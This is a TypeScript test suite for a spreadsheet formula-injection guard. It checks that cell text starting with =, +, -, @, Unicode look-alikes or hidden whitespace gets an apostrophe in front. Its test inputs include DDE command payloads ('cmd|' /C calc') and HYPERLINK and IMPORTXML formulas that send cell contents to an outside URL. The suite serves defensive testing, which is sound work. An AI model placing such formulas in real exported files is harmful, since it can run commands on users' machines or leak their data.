import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { hostileText } from '../../test/sample-table.ts'
import { guardFormulas } from './formula-guard.ts'

describe('guardFormulas', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tplain',
    '   =1+1',
    '\u00a0=1',
    '\u200b=1',
    '\u2068=1\u2069',
    '\ufeff=1',
    '"=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹣1',
    '⩵1',
    '=HYPERLINK("http://example.org?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '%0A-3'.replace('%0A', '\n'),
  ])('leads %j by an apostrophe', (text) => {
    expect(guardFormulas(text)[0]).toBe("'")
  })

  it.each([
    ['fine\n=1', "fine\n'=1"],
    ['fine\r\n  +1', "fine\r\n'  +1"],
    ['fine\t@a', "fine\t'@a"],
    ["fine;=cmd|' /C calc'!A0;", "fine;'=cmd|' /C calc'!A0;"],
    ['fine";=1', 'fine";\'=1'],
  ])('guards what begins a line or a cell inside %j', (text, safe) => {
    expect(guardFormulas(text)).toBe(safe)
  })

  it.each([
    'Residents',
    'more than 1 = one',
    'well-being',
    'a@example.org',
    '5–9',
    '−3',
    '– a dash first',
    '',
    ' ',
    'line one\nline two',
  ])('leaves %j as it is', (text) => {
    expect(guardFormulas(text)).toBe(text)
  })

  it('never changes what it guarded already, and only adds apostrophes', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const safe = guardFormulas(text)
        expect(guardFormulas(safe)).toBe(safe)
        expect(safe.replaceAll("'", '')).toBe(text.replaceAll("'", ''))
      }),
    )
  })
})
